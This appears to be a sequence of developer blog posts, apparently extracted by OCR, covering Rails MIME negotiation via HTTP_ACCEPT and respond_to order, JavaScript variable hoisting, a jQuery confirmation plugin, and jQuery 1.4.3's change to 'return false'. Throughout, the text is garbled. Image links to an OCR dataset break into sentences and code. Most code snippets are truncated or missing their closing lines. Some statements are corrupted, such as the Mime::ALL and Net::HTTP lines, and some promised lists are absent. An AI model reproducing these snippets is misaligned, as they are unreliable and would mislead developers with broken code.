Notice that if a format is passed like http://localhost:3000/users.xml or http://localhost:3000/users.js then Rails does not even parse the HTTP_ACCEPT values. Also note that if browser is sending */* along with other values then Rails totally bails out and just returns Mime::HTML unless the request is ajax request.

Next I am going to discuss some of the cases in greater detail which should bring more clarity around this issue.

Case 1: HTTP_ACCEPT is */*

I have following code.

respond_to do |format|
  format.html { render :text =>'this is html' }
  format.js  { render :text => 'this is js' }

I am assuming that HTTP_ACCEPT value is */* . In this case browser is saying that send me whatever you got. Since browser is not dictating the order in which documents should be sent Rails will look at the order in which Mime types are declared in respond_to block and will pick thefirst one. Here is the corresponding code

def negotiate_mime(order)
  formats.each do |priority|
    if priority == Mime::ALL
      return order.first
    elsif order.include?(priority)
      return priority

  order.include?(Mime::ALL) ? formats.first : nil

What it’s saying is that if Mime::ALL is sent then pick the first one declared in the respond_to block. So be careful with order in which formats are declared inside therespond_to block.

The order in which formats are declared can be real issue. Checkout these two cases where the author ran into issue because of the order in which formats are declared.

So far so good. However what if there is no respond_to block. If I don’t have respond_to block and if I have index.html.erb, index.js.erb and index.xml.builder files in my view directory then which one will be picked up. In this case Rails will go over all the registered formats in the order in which they are declared and will try to find a match . So in this case it matters in what order Mime types are registered. Here is the code that registers Mime types.

Mime::Type.register "text/html", :html, %w( application/xhtml+xml ), %w( xhtml)
Mime::Type.register "text/plain", :text, [], %w(txt)
Mime::Type.register "text/javascript", :js, %w( application/javascript application/x-javascript )
Mime::Type.register "text/css", :css
Mime::Type.register "text/calendar", :ics
Mime::Type.register "text/csv", :csv
Mime::Type.register "application/xml", :xml, %w( text/xml application/x-xml )
Mime::Type.register "application/rss+xml", :rss
Mime::Type.register "application/atom+xml", :atom
Mime::Type.register "application/x-yaml", :yaml, %w( text/yaml )

Mime::Type.register "multipart/form-data", :multipart_form
Mime::Type.register "application/x-www-form-urlencoded", :url_encoded_form

Mime::Type.register "application/json", :json, %w( text/x-json application/jsonrequest )

# Create Mime::ALL but do not add it to the SET.
Mime::ALL ="*/*", :all, [])

As you can see text/html is first in the list, text/javascript next and then application/xml. So Rails will look for view file in the following order: index.html.erb , index.js.erb and index.xml.builder .

Case 2: HTTP_ACCEPT with no */*

I am going to assume that in this case HTTP_ACCEPT sent by browser looks really simple like this

text/javascript, text/html,text/plain

I am also assuming that my respond_to block looks like this

respond_to do |format|
  format.html { render :text => 'this is html' }
  format.js  { render :text => 'this is js' }

So browser is saying that I prefer documents in following order


The order in which formats are declared is

html (format.html)
js (format.js)In this case rails will go through each Mime type that browser supports from top to bottom one by one. If a match is found then response is sent otherwise rails tries find match for next Mime type. First in the list of Mime types supported by browser is js and Rails does find that my respond_to block supports .js . Rails executes format.js block and response is sent to browser.

Case 3: Ajax requests

When an AJAX request is made the Safari, Firefox and Chrome send only one item in HTTP_ACCEPT and that is */*. So if you are making an AJAX request then HTTP_ACCEPT for these three browsers will look like

Chrome: */*
Firefox: */*
Safari: */*

and if your respond_to block looks like this

respond_to do |format|
  format.html { render :text => 'this is html' }
  format.js  { render :text => 'this is js' }

then the first one will be served based on the formats order. And in this case html response would be sent for an AJAX request. This is not what you want.

This is the reason why if you are using jQuery and if you are sending AJAX request then you should add something like this in your application.js file

$(function() {
    'beforeSend': function(xhr) {
      xhr.setRequestHeader("Accept", "text/javascript");

If you are using a newer version of rails.js then you don’t need to add above code since it is already takecare of for you through this commit .

Trying it out

If you want to play with HTTP_ACCEPT header then put the following line in your controller to inspect the HTTP_ACCEPT attribute.

puts request.headers['HTTP_ACCEPT']

I used following rake task to set custom HTTP_ACCEPT attribute.

require "net/http"
require "uri"

task :custom_accept do
  uri = URI.parse("http://localhost:3000/users")
  http =, uri.port)request =
  request["Accept"] = "text/html, application/xml, */*"

  response =http.request(request)
  puts response.body


I got familiar with intricacies of mime parsing while working on ticket #6022 . A big thanks to José Valim for patiently dealing with me while working on this ticket.

Variable declaration at the top is not just pretty thing

I was discussing JavaScript code with a friend and he noticed that I had declared all the variables at the top.

He likes to declare the variable where they are used to be sure that the variable being used is declared with var otherwise that variable will become global variable. This fear of accidentally creating a global variables wants him to see variable declaration next to where it is being used.

Use the right tool

var payment;
payment = soldPrice + shippingCost;In the above case user has declared payment variable in the middle so that he is sure that payment is declared. However if there is a typo as given below then he has accidentally created a global variable “payment”.

var payment; //there isa typo
payment = soldPrice + shippingCost;

Having variable declaration next to where variable is being used is not a safe way of guaranteeing that variable is declared. Use the right tool and that would be jslint validation. I use MacVim and I use Javascript Lint. So every time I save a JavaScript file validation is done and I get warning if I am accidentally creating a global variable.

You can configure such that JSLint validation runs when you check your code into git or when you push to github. Or you can have a custom rake task. Many solutions are available choose the one that fits you. But do notrely on manual inspection.

Variable declaration are being moved to the top by the browser

Take a look at following code. One might expect that console.log will print “Neeraj” but the output will be “undefined” . That is because even though you have declaration variables next to where they are being used, browsers lift those declarations to the very top.

name= 'Neeraj';
function lab(){
 var name = 'John';

Browser converts above code into one shown below.

name = 'Neeraj';
function lab(){
 var name = undefined;
 name = 'John';

In order to avoid this kind of mistakes it is preferred to declared variables at the top like this.

name = 'Neeraj';
function lab(){
 var name = 'John';

Looking at the first set of code a person might think that

Also remember that scope of variable in JavaScript at the function level.

Implications on how functions are declared

There are two ways of declaring a function.

var myfunc = function(){};
function myfunc2(){};

In the first case only the variable declaration myfunc is getting hoisted up. The definition of myfunc is NOT getting hoisted. In the second case both variable declaration and function definition is getting hoisted up. For more information on this refer to my previous blog on the same topic.

An inline confirmation utility powered by jQuery

I needed inline confirmation utility.

With jQuery it was easy.

After a few hours I had iconfirm.Source code is at github.

Live Demo is also available.

Return false has changed in jquery 1.4.3

jQuery 1.4.3 was recently released. If you upgrade to jQuery 1.4.3 you will notice that the behavior of return false has changed in this version. First let’s see what return false does.

return false

  return false;

First ensure that above code is executed on domready. Now if I click on any link then two things will happen.

e.preventDefault() will be called .
e.stopPropagation() will be called .


As the name suggests, callinge.preventDefault() will make sure that the default behavior is not executed.

<a href=''>click me</a>

If above link is clicked then the default behavior of the browser is to take you to However by invokinge.preventDefault() browser will not go ahead with default behavior and I will not be taken to


When a link is clicked then an event “click event” is created. And this event bubbles all the way up to the top. By invoking e.stopPropagation I am asking browser to not to propagate the event. In other words the event will stop bubbling.

<div class='first'>
  <div class='two'>
    <a href=''>click me</a>

If I click on “click me” then “click event” will start bubbling. Now let’s say that I catch this event at .two and if I call e.stopPropagation() then this event will never reach to .first .


First note that you can bind more than one event to an element. Take a look at following case.

<a class='one'>one</a>

I am going to bind three events to the above element.

$('a').bind('click', function(e){

$('a').bind('click', function(e){

$('a').bind('click', function(e){In this case there are three events bound to the same element. Notice that second event binding invokes e.stopImmediatePropagation() . Calling e.stopImmediatePropagation does two things.

Just like stopPropagation it will stop the bubbling of the event. So any parent of this element will not get this event.

However stopImmdiatePropagation stops the event bubbling even tothe siblings. It kills the event right then and there. That’s it. End of the event.

Once again calling stopPropagation means stop this event going to parent. And calling stopImmediatePropagation means stop passing this event to other event handlers bound to itself.

If you are interested here is link to DOM Level 3 Events spec.

Back to original problem

Now that I have described what preventDefault, stopPropagation and stopImmediatePropagation does lets see what changed in jQuery 1.4.3.

In jQuery 1.4.2 when I execute “return false” then that action was same as executing:


Now e.stopImmediatePropagation internally calls e.stopPragation but I have added here for visual clarity.Fact that return false was calling e.stopImmeidatePropagation was a bug. Get that. It was a bug which got fixed in jquery 1.4.3.

So in jquery 1.4.3 e.stopImmediatePropagation is not called. Checkout this piece of code from events.js of jquery code base.

if ( ret !== undefined ) {
  event.result = ret;
  if ( ret === false ) {

As you can see when return false is invoked then e.stopImmediatePropagation is not called.

I tried to find which commit made this change but I could not go far because of this issue.

